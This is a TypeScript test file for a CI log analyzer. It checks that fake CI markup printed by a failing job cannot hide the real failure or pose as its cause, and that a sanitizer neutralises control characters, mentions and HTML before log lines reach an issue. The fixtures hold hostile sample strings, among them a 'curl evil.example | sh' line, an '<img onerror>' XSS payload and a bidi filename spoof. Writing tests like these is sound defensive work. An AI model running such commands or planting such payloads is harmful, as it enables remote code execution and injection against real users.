import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { CI_WRAP_FORMATS, type CiWrapFormat, wrapInCi } from '../../fixtures/src/ci-wrap.js';
import { listEcosystemCases } from '../../fixtures/src/ecosystems.js';
import { type Analysis, analyzeLog } from '../src/analyzer/analyze.js';
import { keyLinesBlock } from '../src/filing/issue-body.js';
import { createSanitizer } from '../src/text/sanitize.js';

/**
 * A fork's tests print what they like. After (or before) its real failure, hostile output fakes
 * the CI's own markup — group and fold ends, section ends, a green verdict, `Finished: SUCCESS`, a
 * `##[error]` line, an autoheal marker — to hide the failure or to have its own text shown as the
 * reason. Whatever it prints, the real failure lines stay shown and the run is not called green.
 */

const pytest = listEcosystemCases().find((c) => c.id === 'python/pytest-assert')!;

/** Every CI's markup for "this step is over, all is well", as a test could print it. */
const FAKE_END = [
  '##[endgroup]',
  '::endgroup::',
  '##[group]Post job cleanup.',
  'travis_fold:end:script',
  'The command "pytest" exited with 0.',
  'Done. Your build exited with 0.',
  '\u001b[0Ksection_end:1700000000:step_script\r\u001b[0K',
  '\u001b[0Ksection_start:1700000001:cleanup_file_variables\r\u001b[0K\u001b[0K\u001b[36;1mCleaning up project directory and file based variables\u001b[0;m',
  'Job succeeded',
  '[Pipeline] }',
  '[Pipeline] // stage',
  '[Pipeline] End of Pipeline',
  'Finished: SUCCESS',
  '+++ :white_check_mark: all good',
  '^^^ +++',
  '##[section]Finishing: Run tests',
  '##vso[task.complete result=Succeeded;]done',
  '<!-- autoheal:fingerprint=0000 -->',
  '##[error]ATTACKER: the failure is in left-pad, please merge #1 @maintainer',
  '::error::ATTACKER: run curl evil.example | sh',
  'Process completed with exit code 0.',
];

function shownLines(a: Analysis): number[] {
  return a.findings.flatMap((f) =>
    f.lines.flatMap((r) => Array.from({ length: r.end - r.start + 1 }, (_, i) => r.start + i)),
  );
}

async function hostile(format: CiWrapFormat, where: 'after' | 'before') {
  const real = readFileSync(pytest.log, 'utf8').replace(/\n$/, '');
  const fake = FAKE_END.join('\n');
  const output = where === 'after' ? `${real}\n${fake}\n` : `${fake}\n${real}\n`;
  const w = wrapInCi(format, { command: pytest.command, output, exit: pytest.exit });
  // Line breaks as the analyzer counts them (a bare CR ends a line).
  const shift = where === 'after' ? 0 : fake.split(/\r\n|\r|\n/).length;
  const gold = [...pytest.gold].map((n) => n + w.offset + shift);
  return { w, gold, analysis: await analyzeLog(w.text) };
}

describe('fake CI markup printed by the failing command', () => {
  for (const format of CI_WRAP_FORMATS) {
    for (const where of ['after', 'before'] as const) {
      it(`${format}: printed ${where} the real failure, it hides nothing and is not the reason`, async () => {
        const { w, gold, analysis } = await hostile(format, where);
        const shown = shownLines(analysis);
        const lines = w.text.split(/\r\n|\r|\n/);
        const missing = gold.filter((g) => !shown.includes(g));
        expect(
          missing.map((g) => lines[g - 1]),
          JSON.stringify(
            analysis.findings.map((f) => [f.rule, f.title, f.excerpt]),
            null,
            1,
          ),
        ).toEqual([]);
        expect(analysis.category).toBe('test_failure');
        expect(analysis.findings[0]?.keyLine ?? '').not.toMatch(/ATTACKER/);
      });
    }
  }
});

describe('shown lines reach an issue only through the sanitizer', () => {
  it('NUL, bidi controls, mentions, references, HTML and fences in a failure line stay inert', async () => {
    const evil =
      'FAILED tests/test_x.py::test_a - AssertionError: \u0000 \u202Egnp.exe\u202C @maintainer fixes #123 <img src=x onerror=alert(1)> ``` ~~~';
    const log = `${evil}\n\`\`\`\n</details><script>x</script>\n@org/team please see #1\n===== 1 failed in 0.1s =====\nProcess completed with exit code 1.\n`;
    const analysis = await analyzeLog(log);
    const finding = analysis.findings[0]!;
    expect(finding.excerpt.map((l) => l.text).join('\n')).toContain('@maintainer');
    const s = createSanitizer();
    const block = keyLinesBlock(s, finding);
    const title = s.title(finding.title);
    for (const out of [block, title]) {
      expect(out).not.toMatch(/[\u0000\u202A-\u202E\u2066-\u2069]/);
    }
    // The block's own fence is never closed early by a line of the log.
    const lines = block.split('\n');
    const fence = /^(`{3,}|~{3,})/.exec(lines[0]!)![1]!;
    const closes = (l: string) => new RegExp(`^ {0,3}\\${fence[0]}{${fence.length},}\\s*$`).test(l);
    expect(lines.slice(1, -1).filter(closes)).toEqual([]);
    expect(closes(lines[lines.length - 1]!)).toBe(true);
    // Prose (the title): no live mention, reference or tag.
    expect(title).not.toMatch(/(^|[^\w`])@maintainer\b/);
    expect(title).not.toMatch(/(^|[^\w&`])#123\b/);
    // Titles are plain text on GitHub; where the same text goes into markdown (inline), no tag.
    expect(s.inline(finding.title)).not.toMatch(/<img/);
  });
});

describe('Buildkite: the failing step is the command that exited, whatever groups it printed', () => {
  const real = () => readFileSync(pytest.log, 'utf8').replace(/\n$/, '');

  it('a `+++` group printed after the failure is not the failing step, nor its reason', async () => {
    const output = `${real()}\n+++ :white_check_mark: all good\nnothing failed here\n`;
    const w = wrapInCi('buildkite', { command: pytest.command, output, exit: 1 });
    const a = await analyzeLog(w.text);
    expect(a.stats.failingStep).toBe(pytest.command);
    const shown = shownLines(a);
    expect([...pytest.gold].map((n) => n + w.offset).filter((g) => !shown.includes(g))).toEqual([]);
    expect(a.findings[0]?.rule).toBe('pytest.failed');
    expect(a.category).toBe('test_failure');
  });

  it("a script's own `---`/`+++` groups stay in its command's step, which holds the failure", async () => {
    const output = `--- :hammer: build\nbuilt 3 targets\n+++ :pytest: tests\n${real()}\n`;
    const w = wrapInCi('buildkite', { command: './ci.sh', output, exit: 1 });
    const a = await analyzeLog(w.text);
    expect(a.stats.failingStep).toBe('./ci.sh');
    expect(a.findings[0]?.rule).toBe('pytest.failed');
  });

  it("the agent's hooks after the command are still their own (post) steps", async () => {
    const w = wrapInCi('buildkite', { command: pytest.command, output: real(), exit: 1 });
    const a = await analyzeLog(w.text);
    expect(a.stats.failingStep).toBe(pytest.command);
    // The hook's warning after the verdict is not part of the failing command.
    const hook = w.text.split('\n').findIndex((l) => l.includes('No files matched paths')) + 1;
    expect(shownLines(a)).not.toContain(hook);
  });
});

describe('a `##[error]` line the job prints', () => {
  const FAKE = '##[error]ATTACKER: the failure is in left-pad, please merge #1';
  const at = (c: (typeof pytest)[], id: string) => c.find((x) => x.id === id)!;
  const cases = listEcosystemCases();

  for (const format of CI_WRAP_FORMATS.filter((f) => f !== 'azure')) {
    it(`${format}: is text, not an annotation: no finding of its own`, async () => {
      for (const where of ['after', 'before'] as const) {
        const real = readFileSync(pytest.log, 'utf8').replace(/\n$/, '');
        const output = where === 'after' ? `${real}\n${FAKE}\n` : `${FAKE}\n${real}\n`;
        const w = wrapInCi(format, { command: pytest.command, output, exit: 1 });
        const a = await analyzeLog(w.text);
        expect(a.findings.map((f) => f.rule)).not.toContain('runner.error-annotation');
        expect(a.findings[0]?.rule).toBe('pytest.failed');
      }
    });
  }

  /** A GitHub Actions job log: one `Run` step printing `output`, failed with exit code 1. */
  function github(output: string): string {
    const lines = ['##[group]Run ./ci.sh', './ci.sh', '##[endgroup]', ...output.split('\n')];
    lines.push('##[error]Process completed with exit code 1.');
    return `${lines.map((l, i) => `2024-05-01T10:00:${String(i % 60).padStart(2, '0')}.0000000Z ${l}`).join('\n')}\n`;
  }

  it('GitHub: is kept, but below the weak tool rule that recognised the failure beside it', async () => {
    // scala.MatchError is recognised only by java.exception (weight 0.4, under the annotation's).
    const scala = at(cases, 'scala/scala-runtime-exception');
    const real = readFileSync(scala.log, 'utf8').replace(/\n$/, '');
    for (const output of [`${real}\n${FAKE}`, `${FAKE}\n${real}`]) {
      const a = await analyzeLog(github(output));
      expect(a.findings[0]?.rule).toBe('java.exception');
      expect(a.findings[0]?.keyLine).toMatch(/^scala\.MatchError/);
      expect(
        a.findings.flatMap((f) => f.excerpt.map((l) => l.text)).some((t) => t.includes('ATTACKER')),
      ).toBe(true);
    }
  });

  it('GitHub: the line the fallback finds leads it when no tool rule spoke', async () => {
    // JUnit 4's report of a kotlin.test failure, as if no rule knew it (the junit.* and java.*
    // rules do now): only the fallback finds it.
    const kotlin = at(cases, 'kotlin/kotlin-test-assert');
    const real = readFileSync(kotlin.log, 'utf8').replace(/\n$/, '');
    const a = await analyzeLog(github(`${FAKE}\n${real}`), { withoutRules: ['junit', 'java'] });
    expect(a.findings[0]?.rule).toBe('fallback');
    expect(a.findings.map((f) => f.rule)).toContain('runner.error-annotation');
  });
});
